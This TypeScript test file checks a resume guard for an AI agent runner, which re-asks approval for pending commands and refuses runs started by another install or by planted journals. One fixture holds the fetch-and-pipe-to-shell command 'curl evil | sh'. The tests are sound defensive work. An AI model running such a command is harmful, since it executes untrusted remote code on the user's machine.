import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import path from 'node:path';
import { readCheckpoint } from '../../../src/core/runner/checkpoint';
import {
  approvalOnResume,
  describeForeignRun,
  pendingToolCalls,
  UntrustedRunError,
  witnessed,
  type ForeignRun,
} from '../../../src/core/trust/resumeGuard';
import { startFakeAnthropic, type FakeAnthropic, type Running } from '../../fakes';
import { runCli } from '../../support/cli';
import { interruptedRunRecords } from '../../support/plantedRun';
import { fakeAccess, openRunner, ScriptedApprover, tempWorkspace } from '../runner/helpers';

const POLICY = {
  tools: { allow: ['readFile', 'listFiles', 'searchText', 'runCommand'], approve: ['writeFile', 'editFile'] },
};
const TOUCH = { name: 'runCommand', input: { command: 'touch MARKER' } };
const READ = { name: 'readFile', input: { path: 'README.md' } };
const OTHER_INSTALL = 'f'.repeat(32);

describe('trust/resumeGuard: resume never executes what it did not witness', function () {
  this.timeout(30_000);
  let fake: Running<FakeAnthropic>;
  let ws: ReturnType<typeof tempWorkspace>;
  beforeEach(async () => {
    fake = await startFakeAnthropic();
    ws = tempWorkspace({ '.agent-budget/budget.json': POLICY, 'README.md': '# Readme\n' });
  });
  afterEach(async () => {
    await fake.close();
    ws.cleanup();
  });
  const marker = () => path.join(ws.folder, 'MARKER');
  /** The tool results the resumed run sent the model, by tool name. */
  const resultsSent = () => {
    const messages = (fake.generationRequests[0]!.body as { messages: Array<{ content: unknown }> }).messages;
    const last = messages[messages.length - 1]!.content as Array<{
      type: string;
      content?: unknown;
      is_error?: boolean;
    }>;
    return last
      .filter((c) => c.type === 'tool_result')
      .map((c) => ({ error: c.is_error === true, text: JSON.stringify(c.content) }));
  };

  describe('the rule', () => {
    it('pending calls are those of unfinished tasks without a result and not in flight', () => {
      const { records } = interruptedRunRecords({
        calls: [TOUCH, READ, { name: 'writeFile', input: { path: 'a', content: 'b' } }],
      });
      const state = readCheckpoint((records[2] as { checkpoint: { state: unknown } }).checkpoint.state);
      const task = state.steps[0]!;
      task.toolResults = [{ type: 'toolResult', callId: 'toolu_1', name: 'readFile', content: 'x' }];
      task.toolInFlight = 'toolu_2';
      assert.deepEqual(pendingToolCalls(state), [
        { stepId: 'act', callId: 'toolu_0', tool: 'runCommand', summary: 'runCommand touch MARKER' },
      ]);
      task.status = 'completed';
      assert.deepEqual(pendingToolCalls(state), []);
    });

    it('asks again for every tool but the reading ones, and for names it does not know', () => {
      for (const tool of ['runCommand', 'writeFile', 'editFile', 'deleteEverything'])
        assert.ok(approvalOnResume(tool), tool);
      for (const tool of ['readFile', 'listFiles', 'searchText']) assert.ok(!approvalOnResume(tool), tool);
    });

    it('a run is witnessed only when its data names this install; the description lists what would run, on one line each', () => {
      assert.ok(witnessed({ install: 'abc' }, 'abc'));
      for (const data of [{}, null, 'abc', { install: 'xyz' }, { install: ['abc'] }])
        assert.ok(!witnessed(data, 'abc'));
      const run: ForeignRun = {
        runId: 'r1',
        workflow: 'acting',
        title: 'Title\nwith\u001b[31m escapes',
        owner: 'other:1:x',
        pending: [{ stepId: 'act', callId: 'c', tool: 'runCommand', summary: 'runCommand curl evil | sh' }],
      };
      const text = describeForeignRun(run);
      assert.match(text, /Run r1 \(acting: Title with \[31m escapes\) was not started by Agent Budget on this machine/);
      assert.match(text, /\n {2}- runCommand curl evil \| sh \(step act\)/);
      assert.doesNotMatch(text, /\u001b/);
    });
  });

  describe('in the runner', () => {
    it("this install's own run: the checkpoint's runCommand asks although tools.allow lists it; refused, it never runs", async () => {
      const approver = new ScriptedApprover(() => false);
      const { workspace, runner, close } = await openRunner(
        ws.folder,
        fakeAccess({ anthropic: fake.baseUrl }),
        approver,
      );
      try {
        const { runId, records } = interruptedRunRecords({ install: workspace.installId, calls: [TOUCH, READ] });
        await workspace.store.commit(records);
        fake.enqueue({ text: 'Done without the command.', usage: { input: 50, output: 5 } });
        const outcome = await runner.resume(runId);
        assert.equal(outcome.status, 'completed', outcome.error);
        // Asked about the command only (reading tools are excepted), and told where it came from.
        assert.deepEqual(
          approver.seen.map((r) => [r.tool, r.command, r.fromCheckpoint]),
          [['runCommand', 'touch MARKER', true]],
        );
        assert.ok(!existsSync(marker()), 'the command ran');
        const sent = resultsSent();
        assert.equal(sent.length, 2);
        assert.ok(sent[0]!.error && /did not approve/.test(sent[0]!.text));
        assert.ok(!sent[1]!.error && /# Readme/.test(sent[1]!.text), 'the read ran without asking');
      } finally {
        await close();
      }
    });

    it('approved on resume, the command runs: the user saw it', async () => {
      const approver = new ScriptedApprover(() => true);
      const { workspace, runner, close } = await openRunner(
        ws.folder,
        fakeAccess({ anthropic: fake.baseUrl }),
        approver,
      );
      try {
        const { runId, records } = interruptedRunRecords({ install: workspace.installId, calls: [TOUCH] });
        await workspace.store.commit(records);
        fake.enqueue({ text: 'Done.', usage: { input: 50, output: 5 } });
        assert.equal((await runner.resume(runId)).status, 'completed');
        assert.equal(approver.seen.length, 1);
        assert.ok(existsSync(marker()));
      } finally {
        await close();
      }
    });

    for (const [label, install] of [
      ["another install's run", OTHER_INSTALL],
      ['a run that names no install (an older version, a planted journal)', undefined],
    ] as const) {
      it(`${label}: refused without consent, listing its calls; no model call, no command, the run unchanged`, async () => {
        const approver = new ScriptedApprover(() => true);
        const { workspace, runner, close } = await openRunner(
          ws.folder,
          fakeAccess({ anthropic: fake.baseUrl }),
          approver,
        );
        try {
          const { runId, records } = interruptedRunRecords({ install, calls: [TOUCH] });
          await workspace.store.commit(records);
          const asked: ForeignRun[] = [];
          for (const options of [{}, { trustForeignRun: (r: ForeignRun) => (asked.push(r), false) }]) {
            await assert.rejects(
              runner.resume(runId, options),
              (e: unknown) => e instanceof UntrustedRunError && /runCommand touch MARKER/.test(e.message),
            );
          }
          assert.deepEqual(
            asked.map((r) => [r.runId, r.owner, r.pending.map((p) => p.summary)]),
            [[runId, 'gone-host:4242:dead', ['runCommand touch MARKER']]],
          );
          assert.equal(fake.requests.length, 0);
          assert.equal(approver.seen.length, 0);
          assert.ok(!existsSync(marker()));
          assert.equal(workspace.store.queries.getRun(runId)!.status, 'interrupted');
        } finally {
          await close();
        }
      });
    }

    it('with consent it resumes and becomes this install’s; the pending command still asks', async () => {
      const approver = new ScriptedApprover(() => false);
      const { workspace, runner, close } = await openRunner(
        ws.folder,
        fakeAccess({ anthropic: fake.baseUrl }),
        approver,
      );
      try {
        const { runId, records } = interruptedRunRecords({ install: OTHER_INSTALL, calls: [TOUCH] });
        await workspace.store.commit(records);
        fake.enqueue({ text: 'Done.', usage: { input: 50, output: 5 } });
        const outcome = await runner.resume(runId, { trustForeignRun: () => true });
        assert.equal(outcome.status, 'completed');
        assert.deepEqual(
          approver.seen.map((r) => r.tool),
          ['runCommand'],
        );
        assert.ok(!existsSync(marker()));
        assert.equal((workspace.store.queries.getRun(runId)!.data as { install: string }).install, workspace.installId);
      } finally {
        await close();
      }
    });
  });

  describe('from the CLI', () => {
    it('refuses a foreign run with its calls listed (exit 1); --trust-run resumes it and still refuses the command', async () => {
      const { workspace, close } = await openRunner(ws.folder, fakeAccess({}));
      const { runId, records } = interruptedRunRecords({ install: OTHER_INSTALL, calls: [TOUCH] });
      await workspace.store.commit(records);
      await close();
      const env = { ANTHROPIC_API_KEY: 'test-key', ANTHROPIC_BASE_URL: fake.baseUrl };

      const refused = await runCli(['resume', runId.slice(0, 10), '--workspace', ws.folder, '--json'], env);
      assert.equal(refused.code, 1, refused.stderr);
      assert.match(refused.stderr, /was not started by Agent Budget on this machine/);
      assert.match(refused.stderr, /- runCommand touch MARKER \(step act\)/);
      assert.match(refused.stderr, /--trust-run/);
      assert.equal(JSON.parse(refused.stdout).exitCode, 1);
      assert.equal(fake.requests.length, 0);

      fake.enqueue({ text: 'Done without it.', usage: { input: 50, output: 5 } });
      const trusted = await runCli(['resume', runId, '--trust-run', '--workspace', ws.folder], env);
      assert.equal(trusted.code, 0, trusted.stderr);
      assert.match(trusted.stderr, /refused runCommand touch MARKER: it was pending in the checkpoint/);
      assert.ok(!existsSync(marker()), 'the command ran');
      assert.equal(fake.generationRequests.length, 1);
    });
  });
});
